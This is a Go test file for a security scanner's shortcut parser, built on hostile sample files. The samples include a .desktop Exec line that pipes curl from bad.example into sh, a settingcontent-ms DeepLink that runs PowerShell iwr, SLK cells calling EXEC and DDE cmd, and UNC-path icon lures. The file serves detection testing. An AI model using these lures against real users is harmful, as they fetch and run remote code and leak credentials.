package shortcut

import (
	"flag"
	"strings"
	"testing"

	"foregate/scan/file/internal/sample"
	"foregate/scan/file/tree"
)

var _ = flag.Bool("update", false, "write the golden files")

type file struct{ name, typ, text string }

// files are the samples, by the names of their golden files.
func files() map[string]file {
	utf16 := func(s string) string { return "\xff\xfe" + string(sample.UTF16(s)) }
	return map[string]file{
		"url":      {"Invitation.url", "url", "[InternetShortcut]\r\nURL=file://files.example@80/DavWWWRoot/invite.exe\r\nIconFile=\\\\files.example\\i\\pdf.ico\r\nIconIndex=1\r\nWorkingDirectory=\\\\files.example\\i\r\n"},
		"web":      {"News.url", "url", "[InternetShortcut]\r\nURL=https://news.example/\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n"},
		"search":   {"docs.url", "url", "[InternetShortcut]\nURL=search-ms:query=invoice&crumb=location:\\\\files.example@ssl\\share\n"},
		"scf":      {"x.scf", "", "[Shell]\r\nCommand=2\r\nIconFile=\\\\files.example\\share\\x.ico\r\n"},
		"desktop":  {"report.desktop", "desktop", "[Desktop Entry]\nType=Application\nExec=bash -c \"curl https://bad.example/x | sh\"\nIcon=application-pdf\n"},
		"library":  {"docs.library-ms", "library-ms", `<?xml version="1.0"?><libraryDescription xmlns="x"><iconReference>imageres.dll,-1</iconReference><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\files.example\docs</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`},
		"query":    {"docs.search-ms", "search-ms", `<?xml version="1.0"?><persistedQuery version="1.0"><query><kindList/><scope><include path="\\files.example\docs" attributes="1"/></scope></query></persistedQuery>`},
		"appref":   {"Tool.appref-ms", "appref-ms", utf16("https://apps.example/tool/Tool.application#Tool.application, Culture=neutral, PublicKeyToken=0000000000000000, processorArchitecture=msil\r\n")},
		"clickone": {"Tool.application", "application", `<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><deployment install="true"><deploymentProvider codebase="https://apps.example/Tool.application"/></deployment></asmv1:assembly>`},
		"settings": {"a.settingcontent-ms", "settingcontent-ms", `<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\system32\cmd.exe /c powershell iwr https://bad.example/a</DeepLink><Icon>\\files.example\a.ico</Icon></ApplicationInformation></SearchableContent></PCSettings>`},
		"webloc":   {"a.webloc", "xml", `<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>https://login.example/</string></dict></plist>`},
		"rdp":      {"Zero Trust.rdp", "rdp", utf16("full address:s:gov-aws.example\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nredirectsmartcards:i:1\r\nremoteapplicationprogram:s:AWS Secure Storage Connection Stability Test\r\nsignature:s:AQAB\r\n")},
		"iqy":      {"a.iqy", "iqy", "WEB\r\n1\r\nhttps://bad.example/cells\r\n\r\n"},
		"slk":      {"a.slk", "slk", "ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC(\"calc.exe\")\r\nC;X1;Y102;K0;Emsexcel|'cmd /c calc'!A0\r\nE\r\n"},
	}
}

func input(f file) *tree.Input {
	in := sample.Input(f.name, []byte(f.text))
	in.Type = f.typ
	return in
}

func TestGolden(t *testing.T) {
	for name, f := range files() {
		t.Run(name, func(t *testing.T) { sample.Golden(t, Parser{}, name, input(f)) })
	}
}

func TestTorture(t *testing.T) {
	for _, f := range files() {
		sample.Torture(t, Parser{}, f.name, []byte(f.text))
	}
}

// Files without an end, and other files by such names.
func TestHostile(t *testing.T) {
	for _, f := range []file{
		{"a.url", "", strings.Repeat("URL=", 1<<20)},
		{"a.library-ms", "", strings.Repeat("<url>", 1<<20)},
		{"a.slk", "", strings.Repeat("C;E|!\n", 1<<19)},
		{"a.desktop", "", "Exec=" + strings.Repeat("http://", 1<<18)},
	} {
		res, err := Parser{}.Open(t.Context(), input(f))
		if err != nil {
			t.Errorf("%s: %v", f.name, err)
		}
		sample.Check(t, res)
	}
	if in := (file{"a.url", "exe", "MZ"}); (Parser{}).Opens(input(in)) {
		t.Error("a program is opened as a shortcut")
	}
}

func FuzzOpen(f *testing.F) {
	for _, s := range files() {
		f.Add(s.name, []byte(s.text))
	}
	f.Fuzz(func(t *testing.T, name string, b []byte) {
		in := sample.Input(name, b)
		if !(Parser{}).Opens(in) {
			return
		}
		res, err := Parser{}.Open(t.Context(), in)
		if err != nil {
			t.Fatal(err)
		}
		sample.Check(t, res)
	})
}
